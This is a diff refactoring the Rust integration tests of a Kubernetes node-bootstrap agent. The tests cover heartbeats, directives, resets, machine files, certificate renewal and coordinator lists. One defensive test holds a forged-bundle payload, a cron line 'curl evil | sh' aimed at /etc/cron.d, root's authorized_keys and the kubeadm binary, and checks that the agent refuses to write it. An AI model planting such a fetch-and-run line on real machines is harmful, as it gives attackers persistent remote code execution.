@@ -17,9 +17,9 @@ use drover_common::bundle::{self, BundleFile, ConfigBundle};
 use drover_common::pin::CaPin;
 use drover_common::pki::{CertificateAuthority, LeafSpec, LeafUsage};
 use drover_common::wire::{
-    coordinators_digest, AgentPhase, AssignmentNotice, BootstrapDocument, ConfigNotReady,
-    Directive, DirectiveAction, HeartbeatRequest, HeartbeatResponse, RegisterRequest,
-    RegisterResponse, RenewRequest, RenewResponse,
+    coordinators_digest, AgentPhase, AssignmentNotice, BootstrapDocument, CommandFailure,
+    ConfigNotReady, Directive, DirectiveAction, DirectiveResult, HeartbeatRequest,
+    HeartbeatResponse, RegisterRequest, RegisterResponse, RenewRequest, RenewResponse,
 };
 use http_body_util::{BodyExt, Full};
 use hyper::body::{Bytes, Incoming};
@@ -364,6 +364,35 @@ impl Fake {
         .await
     }
 
+    /// Waits for a heartbeat in `phase`.
+    async fn in_phase(&mut self, phase: AgentPhase) -> HeartbeatRequest {
+        self.heartbeat_where(&format!("{phase:?}"), |h| h.phase == phase)
+            .await
+    }
+
+    /// Waits for the Failed heartbeat of a bootstrap that failed at
+    /// `step`, returning the failure it reports.
+    async fn failed_at(&mut self, step: &str) -> CommandFailure {
+        let report = self.in_phase(AgentPhase::Failed).await.bootstrap.unwrap();
+        assert_eq!(report.step, step, "{report:?}");
+        report.failure.unwrap()
+    }
+
+    /// Sends directive `id` with the next heartbeat answers and waits for
+    /// the heartbeat that reports its result, returning that heartbeat.
+    async fn directive(&mut self, id: &str, action: DirectiveAction) -> HeartbeatRequest {
+        self.set(|s| {
+            s.directives.push(Directive {
+                id: id.into(),
+                action,
+            })
+        });
+        self.heartbeat_where(&format!("{id} result"), |h| {
+            h.directive_results.iter().any(|r| r.id == id)
+        })
+        .await
+    }
+
     fn set(&self, f: impl FnOnce(&mut FakeState)) {
         f(&mut self.state.lock().unwrap());
     }
@@ -525,6 +554,32 @@ impl Machine {
     fn stderr(&self, run: u32) -> String {
         std::fs::read_to_string(self.stderr_path(run)).unwrap_or_default()
     }
+
+    /// Asserts that kubeadm never ran and no kubeadm config was written.
+    fn assert_kubeadm_never_ran(&self) {
+        assert!(
+            !self.root.join("etc/drover/kubeadm.yaml").exists(),
+            "nothing of the bundle is written"
+        );
+        assert!(
+            self.kubeadm_calls().is_empty(),
+            "{:?}",
+            self.kubeadm_calls()
+        );
+    }
+
+    /// Asserts that the log of run `run` contains `text`.
+    fn assert_logged(&self, run: u32, text: &str) {
+        let log = self.stderr(run);
+        assert!(log.contains(text), "no {text:?} in {log}");
+    }
+
+    /// The agent's saved state.
+    fn state(&self) -> serde_json::Value {
+        let text =
+            std::fs::read_to_string(self.root.join("var/lib/drover-agent/state.json")).unwrap();
+        serde_json::from_str(&text).unwrap()
+    }
 }
 
 async fn exit_code(child: &mut tokio::process::Child) -> i32 {
@@ -556,11 +611,51 @@ fn assigned(cluster: &str, role: MachineRole, generation: u64) -> Option<Assignm
     })
 }
 
-/// A fake coordinator with a CA of its own, and that CA's pin.
-async fn start_fake_with_new_ca() -> (Fake, CaPin) {
+/// The result of directive `id` the heartbeat reports.
+fn result_of<'a>(hb: &'a HeartbeatRequest, id: &str) -> &'a DirectiveResult {
+    hb.directive_results.iter().find(|r| r.id == id).unwrap()
+}
+
+/// A new coordinator CA and its pin.
+fn new_ca() -> (CertificateAuthority, CaPin) {
     let ca = CertificateAuthority::generate("fake-coordinator-ca").unwrap();
     let pin = CaPin::from_cert_pem(&ca.cert_pem).unwrap();
+    (ca, pin)
+}
+
+/// A fake coordinator with a CA of its own, and that CA's pin.
+async fn start_fake_with_new_ca() -> (Fake, CaPin) {
+    let (ca, pin) = new_ca();
     (start_fake(ca).await, pin)
+}
+
+/// A fake coordinator that assigns its machine to cluster `demo` as
+/// `role` at `generation` and serves the bundle at once, told more by
+/// `more`; and a machine for it.
+async fn assigned_machine(
+    role: MachineRole,
+    generation: u64,
+    more: impl FnOnce(&mut FakeState),
+) -> (Fake, Machine) {
+    let (fake, pin) = start_fake_with_new_ca().await;
+    fake.set(|s| {
+        s.not_ready = 0;
+        s.assignment = assigned("demo", role, generation);
+        more(s);
+    });
+    let m = Machine::new(fake.addr, &pin, TICKET);
+    (fake, m)
+}
+
+/// Waits until `done` holds, failing with `what` after [`WAIT`].
+async fn wait_until(what: &str, mut done: impl FnMut() -> bool) {
+    tokio::time::timeout(WAIT, async {
+        while !done() {
+            tokio::time::sleep(Duration::from_millis(20)).await;
+        }
+    })
+    .await
+    .unwrap_or_else(|_| panic!("{what}"));
 }
 
 fn mode(p: &Path) -> u32 {
@@ -573,9 +668,7 @@ async fn full_lifecycle_init_token_reset_rejoin_restart() {
     let m = Machine::new(fake.addr, &pin, TICKET);
     let mut agent = m.spawn(1, true, &[]);
 
-    let hb = fake
-        .heartbeat_where("Waiting", |h| h.phase == AgentPhase::Waiting)
-        .await;
+    let hb = fake.in_phase(AgentPhase::Waiting).await;
     assert_eq!(hb.applied_generation, 0);
     assert!(hb.bootstrap.is_none());
     // The machine's kubeadm version goes with the first heartbeat.
@@ -613,27 +706,19 @@ async fn full_lifecycle_init_token_reset_rejoin_restart() {
         !m.root.join("etc/drover/kubeadm.yaml").exists(),
         "the config holding the join token is removed once kubeadm succeeded"
     );
-    assert!(
-        m.stderr(1).contains("waiting for the init machine"),
-        "{}",
-        m.stderr(1)
-    );
+    m.assert_logged(1, "waiting for the init machine");
 
     // A bootstrap token directive runs once, and its result is reported.
-    fake.set(|s| {
-        s.directives.push(Directive {
-            id: "token-1".into(),
-            action: DirectiveAction::CreateBootstrapToken {
+    let hb = fake
+        .directive(
+            "token-1",
+            DirectiveAction::CreateBootstrapToken {
                 token: "abcdef.0123456789abcdef".parse().unwrap(),
                 ttl_seconds: 3600,
             },
-        })
-    });
-    let hb = fake
-        .heartbeat_where("token result", |h| !h.directive_results.is_empty())
+        )
         .await;
-    let result = &hb.directive_results[0];
-    assert_eq!(result.id, "token-1");
+    let result = result_of(&hb, "token-1");
     assert!(result.ok, "{result:?}");
     assert!(!result.message.contains("0123456789abcdef"), "{result:?}");
     assert_eq!(
@@ -642,22 +727,17 @@ async fn full_lifecycle_init_token_reset_rejoin_restart() {
     );
 
     // Reset: back to Waiting with generation 0, files gone.
-    fake.set(|s| {
-        s.directives.push(Directive {
-            id: "reset-1".into(),
-            action: DirectiveAction::Reset {
+    let hb = fake
+        .directive(
+            "reset-1",
+            DirectiveAction::Reset {
                 reason: "cluster deleted".into(),
             },
-        })
-    });
-    let hb = fake
-        .heartbeat_where("reset result", |h| {
-            h.directive_results.iter().any(|r| r.id == "reset-1")
-        })
+        )
         .await;
     assert_eq!(hb.phase, AgentPhase::Waiting);
     assert_eq!(hb.applied_generation, 0);
-    assert!(hb.directive_results[0].ok, "{hb:?}");
+    assert!(result_of(&hb, "reset-1").ok, "{hb:?}");
     assert_eq!(
         m.kubeadm_calls()[2],
         format!(
@@ -684,9 +764,7 @@ async fn full_lifecycle_init_token_reset_rejoin_restart() {
 
     // Restarted without --bootstrap: no second registration, still running.
     let mut agent = m.spawn(2, false, &[]);
-    let hb = fake
-        .heartbeat_where("Running after restart", |h| h.phase == AgentPhase::Running)
-        .await;
+    let hb = fake.in_phase(AgentPhase::Running).await;
     assert_eq!(hb.applied_generation, 2);
     assert_eq!(fake.get(|s| s.registrations), 1);
     assert_eq!(m.kubeadm_calls().len(), 4, "{:?}", m.kubeadm_calls());
@@ -710,13 +788,7 @@ async fn interrupt_kubeadm(fake: &mut Fake, m: &Machine, verb: &str) {
         h.phase == AgentPhase::Bootstrapping && h.bootstrap.as_ref().is_some_and(|b| b.step == step)
     })
     .await;
-    tokio::time::timeout(WAIT, async {
-        while !pid_file.exists() {
-            tokio::time::sleep(Duration::from_millis(20)).await;
-        }
-    })
-    .await
-    .expect("kubeadm started");
+    wait_until("kubeadm started", || pid_file.exists()).await;
     stop_cleanly(&mut agent).await;
     let kubeadm_pid: i32 = std::fs::read_to_string(&pid_file)
         .unwrap()
@@ -731,18 +803,11 @@ async fn interrupt_kubeadm(fake: &mut Fake, m: &Machine, verb: &str) {
 
 #[tokio::test]
 async fn interrupted_join_is_reset_and_joined_again() {
-    let (mut fake, pin) = start_fake_with_new_ca().await;
-    fake.set(|s| {
-        s.not_ready = 0;
-        s.assignment = assigned("demo", MachineRole::ControlPlane, 2);
-    });
-    let m = Machine::new(fake.addr, &pin, TICKET);
+    let (mut fake, m) = assigned_machine(MachineRole::ControlPlane, 2, |_| {}).await;
     interrupt_kubeadm(&mut fake, &m, "join").await;
 
     let mut agent = m.spawn_with_args(2, false, &[], &["--log-format", "json"]);
-    let hb = fake
-        .heartbeat_where("Running", |h| h.phase == AgentPhase::Running)
-        .await;
+    let hb = fake.in_phase(AgentPhase::Running).await;
     assert_eq!(hb.applied_generation, 2);
     let root = m.root.display().to_string();
     assert_eq!(
@@ -768,21 +833,11 @@ async fn interrupted_join_is_reset_and_joined_again() {
 
 #[tokio::test]
 async fn interrupted_init_is_never_rerun() {
-    let (mut fake, pin) = start_fake_with_new_ca().await;
-    fake.set(|s| {
-        s.not_ready = 0;
-        s.assignment = assigned("demo", MachineRole::Init, 1);
-    });
-    let m = Machine::new(fake.addr, &pin, TICKET);
+    let (mut fake, m) = assigned_machine(MachineRole::Init, 1, |_| {}).await;
     interrupt_kubeadm(&mut fake, &m, "init").await;
 
     let mut agent = m.spawn(2, false, &[]);
-    let hb = fake
-        .heartbeat_where("Failed", |h| h.phase == AgentPhase::Failed)
-        .await;
-    let report = hb.bootstrap.unwrap();
-    assert_eq!(report.step, "kubeadm-init");
-    let failure = report.failure.unwrap();
+    let failure = fake.failed_at("kubeadm-init").await;
     assert!(
         failure.output_tail[0].contains("interrupted"),
         "{failure:?}"
@@ -794,16 +849,9 @@ async fn interrupted_init_is_never_rerun() {
 
 #[tokio::test]
 async fn failed_join_reports_command_and_output_tail() {
-    let (mut fake, pin) = start_fake_with_new_ca().await;
-    fake.set(|s| {
-        s.not_ready = 0;
-        s.assignment = assigned("demo", MachineRole::Worker, 4);
-    });
-    let m = Machine::new(fake.addr, &pin, TICKET);
+    let (mut fake, m) = assigned_machine(MachineRole::Worker, 4, |_| {}).await;
     let mut agent = m.spawn(1, true, &[("FAKE_KUBEADM_FAIL_JOIN", "1")]);
-    let hb = fake
-        .heartbeat_where("Failed", |h| h.phase == AgentPhase::Failed)
-        .await;
+    let hb = fake.in_phase(AgentPhase::Failed).await;
     assert_eq!(hb.applied_generation, 4);
     let report = hb.bootstrap.unwrap();
     assert_eq!(report.step, "kubeadm-join");
@@ -825,31 +873,31 @@ async fn failed_join_reports_command_and_output_tail() {
         "{failure:?}"
     );
     // Not retried automatically.
-    fake.heartbeat_where("another Failed", |h| h.phase == AgentPhase::Failed)
-        .await;
+    fake.in_phase(AgentPhase::Failed).await;
     assert_eq!(m.kubeadm_calls().len(), 1);
     stop_cleanly(&mut agent).await;
 }
 
-fn machine_file(path: &str, mode: u32, content: &str) -> MachineFileContent {
-    MachineFileContent {
-        path: path.into(),
-        mode,
-        owner: "root:root".into(),
-        content: content.into(),
-    }
+/// The cluster's machine files, each `(path, mode, content)` owned by root.
+fn machine_files(files: &[(&str, u32, &str)]) -> Vec<MachineFileContent> {
+    files
+        .iter()
+        .map(|(path, mode, content)| MachineFileContent {
+            path: (*path).into(),
+            mode: *mode,
+            owner: "root:root".into(),
+            content: (*content).into(),
+        })
+        .collect()
 }
 
 #[tokio::test]
 async fn machine_files_then_pre_commands_then_kubeadm_then_post_commands() {
-    let (mut fake, pin) = start_fake_with_new_ca().await;
-    fake.set(|s| {
-        s.not_ready = 0;
-        s.assignment = assigned("demo", MachineRole::Worker, 2);
-        s.machine_files = vec![
-            machine_file("/etc/cni/net.d/10-bridge.conflist", 0o644, "{\"cniVersion\": \"1.0.0\"}\n"),
-            machine_file("/etc/demo/secret.conf", 0o600, "s3cret\n"),
-        ];
+    let (mut fake, m) = assigned_machine(MachineRole::Worker, 2, |s| {
+        s.machine_files = machine_files(&[
+            ("/etc/cni/net.d/10-bridge.conflist", 0o644, "{\"cniVersion\": \"1.0.0\"}\n"),
+            ("/etc/demo/secret.conf", 0o600, "s3cret\n"),
+        ]);
         // Each command proves what exists when it runs, and leaves a line.
         s.pre_commands = vec![
             r#"test -f "$DROVER_ROOT/etc/cni/net.d/10-bridge.conflist" && echo pre-1 >> "$DROVER_ROOT/order""#.into(),
@@ -857,8 +905,8 @@ async fn machine_files_then_pre_commands_then_kubeadm_then_post_commands() {
         ];
         s.post_commands =
             vec![r#"test -f "$DROVER_ROOT/etc/kubernetes/kubelet.conf" && echo post >> "$DROVER_ROOT/order""#.into()];
-    });
-    let m = Machine::new(fake.addr, &pin, TICKET);
+    })
+    .await;
     let mut agent = m.spawn(1, true, &[]);
     fake.running_at(2).await;
     assert_eq!(
@@ -875,17 +923,12 @@ async fn machine_files_then_pre_commands_then_kubeadm_then_post_commands() {
     assert_eq!(mode(&m.root.join("etc/demo/secret.conf")), 0o600);
 
     // Going back to the pool removes the files the cluster put there.
-    fake.set(|s| {
-        s.directives.push(Directive {
-            id: "reset-1".into(),
-            action: DirectiveAction::Reset {
-                reason: "released".into(),
-            },
-        })
-    });
-    fake.heartbeat_where("reset result", |h| {
-        h.directive_results.iter().any(|r| r.id == "reset-1")
-    })
+    fake.directive(
+        "reset-1",
+        DirectiveAction::Reset {
+            reason: "released".into(),
+        },
+    )
     .await;
     assert!(!cni.exists() && !m.root.join("etc/demo/secret.conf").exists());
     stop_cleanly(&mut agent).await;
@@ -893,21 +936,13 @@ async fn machine_files_then_pre_commands_then_kubeadm_then_post_commands() {
 
 #[tokio::test]
 async fn a_failing_pre_kubeadm_command_fails_the_machine_before_kubeadm() {
-    let (mut fake, pin) = start_fake_with_new_ca().await;
-    fake.set(|s| {
-        s.not_ready = 0;
-        s.assignment = assigned("demo", MachineRole::Worker, 3);
+    let (mut fake, m) = assigned_machine(MachineRole::Worker, 3, |s| {
         s.pre_commands = vec!["true".into(), "echo no registry mirror; exit 7".into()];
         s.post_commands = vec!["echo never".into()];
-    });
-    let m = Machine::new(fake.addr, &pin, TICKET);
+    })
+    .await;
     let mut agent = m.spawn(1, true, &[]);
-    let hb = fake
-        .heartbeat_where("Failed", |h| h.phase == AgentPhase::Failed)
-        .await;
-    let report = hb.bootstrap.unwrap();
-    assert_eq!(report.step, "pre-kubeadm-commands");
-    let failure = report.failure.unwrap();
+    let failure = fake.failed_at("pre-kubeadm-commands").await;
     assert_eq!(
         failure.command,
         "/bin/sh -c 'echo no registry mirror; exit 7'"
@@ -920,65 +955,46 @@ async fn a_failing_pre_kubeadm_command_fails_the_machine_before_kubeadm() {
 
 #[tokio::test]
 async fn a_machine_file_at_a_reserved_path_is_refused_and_nothing_written() {
-    let (mut fake, pin) = start_fake_with_new_ca().await;
-    fake.set(|s| {
-        s.not_ready = 0;
-        s.assignment = assigned("demo", MachineRole::Worker, 1);
-        s.machine_files = vec![
-            machine_file("/etc/fine.conf", 0o644, "x"),
-            machine_file("/var/lib/drover-agent/state.json", 0o644, "{}"),
-        ];
+    let (mut fake, m) = assigned_machine(MachineRole::Worker, 1, |s| {
         s.pre_commands = vec!["echo ran >> \"$DROVER_ROOT/ran\"".into()];
-    });
-    let m = Machine::new(fake.addr, &pin, TICKET);
+        s.machine_files = machine_files(&[
+            ("/etc/fine.conf", 0o644, "x"),
+            ("/var/lib/drover-agent/state.json", 0o644, "{}"),
+        ]);
+    })
+    .await;
     let mut agent = m.spawn(1, true, &[]);
-    let hb = fake
-        .heartbeat_where("Failed", |h| h.phase == AgentPhase::Failed)
-        .await;
-    let report = hb.bootstrap.unwrap();
-    assert_eq!(report.step, "write-files");
-    let tail = report.failure.unwrap().output_tail.join("\n");
+    let tail = fake.failed_at("write-files").await.output_tail.join("\n");
     assert!(
         tail.contains("/var/lib/drover-agent/state.json") && tail.contains("reserved"),
         "{tail}"
     );
     assert!(!m.root.join("etc/fine.conf").exists());
     assert!(!m.root.join("ran").exists());
-    assert!(
-        !m.root.join("etc/drover/kubeadm.yaml").exists(),
-        "nothing of the bundle is written"
-    );
-    assert!(m.kubeadm_calls().is_empty());
+    m.assert_kubeadm_never_ran();
     stop_cleanly(&mut agent).await;
 }
 
 #[tokio::test]
 async fn a_forged_bundle_cannot_write_outside_the_kubeadm_files() {
-    let (mut fake, pin) = start_fake_with_new_ca().await;
-    let evil = |path: &str| BundleFile {
+    let file = |path: &str, content: &str| BundleFile {
         path: path.into(),
         mode: 0o777,
-        content: "* * * * * root curl evil | sh\n".into(),
+        content: content.into(),
     };
+    let evil = |path: &str| file(path, "* * * * * root curl evil | sh\n");
     // Signed with the coordinator CA key, as a compromised coordinator would.
-    fake.set(|s| {
-        s.not_ready = 0;
+    let (mut fake, m) = assigned_machine(MachineRole::Worker, 2, |s| {
         s.config_mode = 0o777;
         s.extra_files = vec![
             evil("/etc/cron.d/drover"),
             evil("/root/.ssh/authorized_keys"),
             evil("/usr/bin/kubeadm"),
         ];
-        s.assignment = assigned("demo", MachineRole::Worker, 2);
-    });
-    let m = Machine::new(fake.addr, &pin, TICKET);
+    })
+    .await;
     let mut agent = m.spawn(1, true, &[]);
-    let hb = fake
-        .heartbeat_where("Failed", |h| h.phase == AgentPhase::Failed)
-        .await;
-    let report = hb.bootstrap.unwrap();
-    assert_eq!(report.step, "write-files");
-    let failure = report.failure.unwrap();
+    let failure = fake.failed_at("write-files").await;
     assert!(
         failure
             .output_tail
@@ -1001,16 +1017,8 @@ async fn a_forged_bundle_cannot_write_outside_the_kubeadm_files() {
     // The allowed files alone: written with the agent's modes, not the 0777 asked.
     fake.set(|s| {
         s.extra_files = vec![
-            BundleFile {
-                path: "/etc/kubernetes/pki/ca.key".into(),
-                mode: 0o777,
-                content: "key\n".into(),
-            },
-            BundleFile {
-                path: "/etc/kubernetes/pki/ca.crt".into(),
-                mode: 0o777,
-                content: "cert\n".into(),
-            },
+            file("/etc/kubernetes/pki/ca.key", "key\n"),
+            file("/etc/kubernetes/pki/ca.crt", "cert\n"),
         ];
         s.assignment = assigned("demo", MachineRole::ControlPlane, 3);
     });
@@ -1030,20 +1038,11 @@ async fn short_lived_certificate_is_renewed() {
     fake.set(|s| s.client_validity = time::Duration::minutes(1));
     let m = Machine::new(fake.addr, &pin, TICKET);
     let mut agent = m.spawn(1, true, &[]);
-    tokio::time::timeout(WAIT, async {
-        while fake.get(|s| s.renewals) == 0 {
-            tokio::time::sleep(Duration::from_millis(50)).await;
-        }
-    })
-    .await
-    .expect("renewed");
+    wait_until("renewed", || fake.get(|s| s.renewals) > 0).await;
     // Heartbeats keep working with the renewed certificate.
     let _ = fake.heartbeat_where("after renewal", |_| true).await;
     let _ = fake.heartbeat_where("after renewal", |_| true).await;
-    let state: serde_json::Value = serde_json::from_str(
-        &std::fs::read_to_string(m.root.join("var/lib/drover-agent/state.json")).unwrap(),
-    )
-    .unwrap();
+    let state = m.state();
     let not_after = time::OffsetDateTime::parse(
         state["certificateNotAfter"].as_str().unwrap(),
         &time::format_description::well_known::Rfc3339,
@@ -1056,8 +1055,7 @@ async fn short_lived_certificate_is_renewed() {
 
 #[tokio::test]
 async fn wrong_pin_is_refused_with_a_clear_message() {
-    let ca = CertificateAuthority::generate("fake-coordinator-ca").unwrap();
-    let real = CaPin::from_cert_pem(&ca.cert_pem).unwrap();
+    let (ca, real) = new_ca();
     let other = CertificateAuthority::generate("not-the-coordinator").unwrap();
     let pinned = CaPin::from_cert_pem(&other.cert_pem).unwrap();
     let fake = start_fake(ca).await;
@@ -1077,9 +1075,7 @@ async fn wrong_pin_is_refused_with_a_clear_message() {
 
 #[tokio::test]
 async fn refused_ticket_exits_2_with_the_problem() {
-    let ca = CertificateAuthority::generate("fake-coordinator-ca").unwrap();
-    let pin = CaPin::from_cert_pem(&ca.cert_pem).unwrap();
-    let fake = start_fake(ca).await;
+    let (fake, pin) = start_fake_with_new_ca().await;
     let m = Machine::new(fake.addr, &pin, "forged-ticket");
     let mut agent = m.spawn(1, true, &[]);
     assert_eq!(exit_code(&mut agent).await, 2);
@@ -1094,8 +1090,7 @@ async fn refused_ticket_exits_2_with_the_problem() {
 
 #[tokio::test]
 async fn usage_errors_exit_64() {
-    let ca = CertificateAuthority::generate("fake-coordinator-ca").unwrap();
-    let pin = CaPin::from_cert_pem(&ca.cert_pem).unwrap();
+    let (_, pin) = new_ca();
     let m = Machine::new("127.0.0.1:1".parse().unwrap(), &pin, TICKET);
 
     // No state, no bootstrap document, no NoCloud seed: every place looked
@@ -1120,11 +1115,7 @@ async fn usage_errors_exit_64() {
     .unwrap();
     let mut agent = m.spawn(3, false, &[]);
     assert_eq!(exit_code(&mut agent).await, 64);
-    assert!(
-        m.stderr(3).contains("invalid NoCloud user data"),
-        "{}",
-        m.stderr(3)
-    );
+    m.assert_logged(3, "invalid NoCloud user data");
     std::fs::remove_file(m.nocloud_dir().join("user-data")).unwrap();
 
     // An invalid bootstrap document.
@@ -1135,11 +1126,7 @@ async fn usage_errors_exit_64() {
     .unwrap();
     let mut agent = m.spawn(2, true, &[]);
     assert_eq!(exit_code(&mut agent).await, 64);
-    assert!(
-        m.stderr(2).contains("invalid bootstrap document"),
-        "{}",
-        m.stderr(2)
-    );
+    m.assert_logged(2, "invalid bootstrap document");
 
     // A bad flag.
     let status = tokio::process::Command::new(env!("CARGO_BIN_EXE_drover-agent"))
@@ -1167,96 +1154,69 @@ async fn registers_from_a_nocloud_cloud_config_seed() {
     )
     .unwrap();
     let mut agent = m.spawn(1, false, &[]);
-    fake.heartbeat_where("Waiting", |h| h.phase == AgentPhase::Waiting)
-        .await;
+    fake.in_phase(AgentPhase::Waiting).await;
     assert_eq!(fake.get(|s| s.registrations), 1);
     assert!(m.root.join("var/lib/drover-agent/state.json").exists());
-    assert!(
-        m.stderr(1)
-            .contains("read the bootstrap document from the NoCloud seed"),
-        "{}",
-        m.stderr(1)
-    );
+    m.assert_logged(1, "read the bootstrap document from the NoCloud seed");
 
     // A restart resumes from the saved state; the seed (single-use ticket)
     // is not read again.
     stop_cleanly(&mut agent).await;
     let mut agent = m.spawn(2, false, &[]);
-    fake.heartbeat_where("Waiting again", |h| h.phase == AgentPhase::Waiting)
-        .await;
+    fake.in_phase(AgentPhase::Waiting).await;
     assert_eq!(fake.get(|s| s.registrations), 1);
     assert!(!m.stderr(2).contains("NoCloud"), "{}", m.stderr(2));
     stop_cleanly(&mut agent).await;
 }
 
+/// Starts an agent that refuses machine customisation and waits for its
+/// bootstrap to fail at writing files, returning the agent and the
+/// failure's output tail.
+async fn refused_customisation(fake: &mut Fake, m: &Machine) -> (tokio::process::Child, String) {
+    let agent = m.spawn_with_args(1, true, &[], &["--refuse-machine-customisation"]);
+    let tail = fake.failed_at("write-files").await.output_tail.join("\n");
+    (agent, tail)
+}
+
 #[tokio::test]
 async fn an_agent_that_refuses_customisation_writes_and_runs_nothing() {
-    let (mut fake, pin) = start_fake_with_new_ca().await;
-    fake.set(|s| {
-        s.not_ready = 0;
-        s.assignment = assigned("demo", MachineRole::Worker, 1);
-        s.machine_files = vec![machine_file("/etc/fine.conf", 0o644, "x")];
+    let (mut fake, m) = assigned_machine(MachineRole::Worker, 1, |s| {
+        s.machine_files = machine_files(&[("/etc/fine.conf", 0o644, "x")]);
         s.pre_commands = vec!["echo ran >> \"$DROVER_ROOT/ran\"".into()];
-    });
-    let m = Machine::new(fake.addr, &pin, TICKET);
-    let mut agent = m.spawn_with_args(1, true, &[], &["--refuse-machine-customisation"]);
-    let hb = fake
-        .heartbeat_where("Failed", |h| h.phase == AgentPhase::Failed)
-        .await;
-    let report = hb.bootstrap.unwrap();
-    assert_eq!(report.step, "write-files");
-    let tail = report.failure.unwrap().output_tail.join("\n");
+    })
+    .await;
+    let (mut agent, tail) = refused_customisation(&mut fake, &m).await;
     assert!(tail.contains("--refuse-machine-customisation"), "{tail}");
     assert!(!m.root.join("etc/fine.conf").exists() && !m.root.join("ran").exists());
-    assert!(!m.root.join("etc/drover/kubeadm.yaml").exists());
-    assert!(m.kubeadm_calls().is_empty());
+    m.assert_kubeadm_never_ran();
     stop_cleanly(&mut agent).await;
 }
 
 #[tokio::test]
 async fn an_agent_that_refuses_customisation_refuses_a_cluster_with_addons() {
-    let (mut fake, pin) = start_fake_with_new_ca().await;
-    fake.set(|s| {
-        s.not_ready = 0;
-        s.assignment = assigned("demo", MachineRole::Init, 1);
+    let (mut fake, m) = assigned_machine(MachineRole::Init, 1, |s| {
         s.addons = vec!["monitoring".into()];
-    });
-    let m = Machine::new(fake.addr, &pin, TICKET);
-    let mut agent = m.spawn_with_args(1, true, &[], &["--refuse-machine-customisation"]);
-    let hb = fake
-        .heartbeat_where("Failed", |h| h.phase == AgentPhase::Failed)
-        .await;
-    let report = hb.bootstrap.unwrap();
-    assert_eq!(report.step, "write-files");
-    let tail = report.failure.unwrap().output_tail.join("\n");
+    })
+    .await;
+    let (mut agent, tail) = refused_customisation(&mut fake, &m).await;
     assert!(
         tail.contains("1 addons (monitoring)") && tail.contains("--refuse-machine-customisation"),
         "{tail}"
     );
-    assert!(!m.root.join("etc/drover/kubeadm.yaml").exists());
-    assert!(m.kubeadm_calls().is_empty());
+    m.assert_kubeadm_never_ran();
 
     // An addon's manifests sent later are refused too, and nothing is
     // applied.
-    fake.set(|s| {
-        s.directives.push(Directive {
-            id: "addon-1".into(),
-            action: DirectiveAction::ApplyManifests {
+    let hb = fake
+        .directive(
+            "addon-1",
+            DirectiveAction::ApplyManifests {
                 addon: "monitoring".into(),
                 manifests: "apiVersion: v1\nkind: Namespace\nmetadata:\n  name: x\n".into(),
             },
-        })
-    });
-    let hb = fake
-        .heartbeat_where("addon result", |h| {
-            h.directive_results.iter().any(|r| r.id == "addon-1")
-        })
+        )
         .await;
-    let result = hb
-        .directive_results
-        .iter()
-        .find(|r| r.id == "addon-1")
-        .unwrap();
+    let result = result_of(&hb, "addon-1");
     assert!(!result.ok, "{result:?}");
     assert!(
         result.message.contains("--refuse-machine-customisation"),
@@ -1267,26 +1227,20 @@ async fn an_agent_that_refuses_customisation_refuses_a_cluster_with_addons() {
 
 /// The coordinator URLs in the machine's state file.
 fn saved_coordinators(m: &Machine) -> Vec<String> {
-    let text = std::fs::read_to_string(m.root.join("var/lib/drover-agent/state.json")).unwrap();
-    let state: serde_json::Value = serde_json::from_str(&text).unwrap();
-    serde_json::from_value(state["coordinators"].clone()).unwrap()
+    serde_json::from_value(m.state()["coordinators"].clone()).unwrap()
 }
 
 /// Waits until the agent's log of run `run` contains `text`.
 async fn log_shows(m: &Machine, run: u32, text: &str) {
-    let found = tokio::time::timeout(WAIT, async {
-        while !m.stderr(run).contains(text) {
-            tokio::time::sleep(Duration::from_millis(50)).await;
-        }
+    wait_until(&format!("no {text:?} in the log of run {run}"), || {
+        m.stderr(run).contains(text)
     })
     .await;
-    assert!(found.is_ok(), "no {text:?} in {}", m.stderr(run));
 }
 
 #[tokio::test]
 async fn coordinators_named_by_a_heartbeat_answer_replace_the_list_and_survive_a_restart() {
-    let ca = CertificateAuthority::generate("fake-coordinator-ca").unwrap();
-    let pin = CaPin::from_cert_pem(&ca.cert_pem).unwrap();
+    let (ca, pin) = new_ca();
     let mut a = start_fake(ca.clone()).await;
     let mut b = start_fake(ca).await;
     let (a_url, b_url) = (
@@ -1300,9 +1254,7 @@ async fn coordinators_named_by_a_heartbeat_answer_replace_the_list_and_survive_a
     // An answer without a list changes nothing; heartbeats report the
     // digest of the bootstrap document's list.
     for _ in 0..2 {
-        let hb = a
-            .heartbeat_where("Waiting", |h| h.phase == AgentPhase::Waiting)
-            .await;
+        let hb = a.in_phase(AgentPhase::Waiting).await;
         assert_eq!(hb.coordinators_digest, Some(coordinators_digest(&boot)));
     }
     assert_eq!(saved_coordinators(&m), boot);
@@ -1350,8 +1302,7 @@ async fn an_invalid_coordinator_list_is_refused_logged_once_and_the_old_one_kept
         format!("https://127.0.0.1:{}", fake.addr.port()),
     ];
     let mut agent = m.spawn(1, true, &[]);
-    fake.heartbeat_where("Waiting", |h| h.phase == AgentPhase::Waiting)
-        .await;
+    fake.in_phase(AgentPhase::Waiting).await;
     fake.set(|s| s.coordinators = Some(vec!["http://127.0.0.1:2".into()]));
     log_shows(&m, 1, "invalid list of coordinator URLs").await;
     // Answered with it again at every heartbeat: still the old list.
